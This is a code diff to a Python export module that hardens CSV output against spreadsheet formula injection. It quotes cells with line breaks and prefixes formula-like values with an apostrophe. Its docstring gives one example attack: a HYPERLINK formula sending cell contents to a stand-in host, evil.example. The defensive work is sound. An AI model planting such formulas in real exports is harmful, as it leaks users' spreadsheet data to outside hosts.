@@ -4,17 +4,22 @@ diff's changes as CSV (`diff_csv_frame`, which `iptoolkit diff --format csv` wri
 Names come from whoever configures the platform, and a spreadsheet runs a cell that starts
 with `=` as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")`). In `.xlsx`
 every string is written as a string, never a formula. A CSV file has no types: by default
-a value starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
-(OWASP's advice on CSV injection), which spreadsheets show as text; `csv_safe=False`
-writes every value exactly as the platform holds it, for programs that read the file.
+a value starting with `=`, `+`, `-`, `@`, a tab or a carriage return, at its start or
+after a line break in it, gets a leading `'` there (`support/csvio.py`: OWASP's advice on
+CSV injection), which spreadsheets show as text; `csv_safe=False` writes every value
+exactly as the platform holds it, for programs that read the file. Either way a cell
+holding a line break is quoted (`frame_csv`), so that no reader starts a row inside it.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+from ..support.csvio import FORMULA_PREFIXES, csv_safe, csv_text
 from ..support.printable import drop_unprintable, escape_unprintable
 from .attributes import redact_text
 
@@ -32,20 +37,27 @@ __all__ = [
     "FORMULA_PREFIXES",
     "csv_safe",
     "csv_safe_frame",
+    "frame_csv",
+    "write_frame_csv",
 ]
 
 SHEETS: tuple[FrameKind, ...] = ("profiles", "channels", "partners", "responses")
 _EXACT_IN_EXCEL = 2**53  # Excel keeps numbers as doubles
-FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
-"""First characters that make a spreadsheet read a CSV cell as a formula (OWASP)."""
 
 
-def csv_safe(value: Any) -> Any:
-    """A CSV cell a spreadsheet shows as text: a string starting with a formula prefix
-    gets a leading `'`; anything else is returned unchanged."""
-    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
-        return "'" + value
-    return value
+def frame_csv(frame: pandas.DataFrame) -> str:
+    """`frame` as pandas writes it to CSV (no index column), but every cell holding a line
+    break quoted and every row ended by `\n` (`support.csvio.csv_text`)."""
+    text = frame.to_csv(index=False, lineterminator="\r\n")  # pandas formats the values
+    return csv_text(csv.reader(io.StringIO(text, newline="")))
+
+
+def write_frame_csv(frame: pandas.DataFrame, path: str | os.PathLike[str]) -> Path:
+    """`frame_csv(frame)` written to `path` as UTF-8, line breaks as they are."""
+    path = Path(path)
+    with path.open("w", encoding="utf-8", newline="") as file:
+        file.write(frame_csv(frame))
+    return path
 
 
 def csv_safe_frame(frame: pandas.DataFrame) -> pandas.DataFrame:
@@ -67,8 +79,7 @@ def write_csv(estate: Estate, path: str | os.PathLike[str], *, csv_safe: bool = 
     frame = _clean(estate.to_frame("profiles"), excel=False)
     if csv_safe:
         frame = csv_safe_frame(frame)
-    frame.to_csv(path, index=False, encoding="utf-8")
-    return path
+    return write_frame_csv(frame, path)
 
 
 def write_xlsx(estate: Estate, path: str | os.PathLike[str]) -> Path:
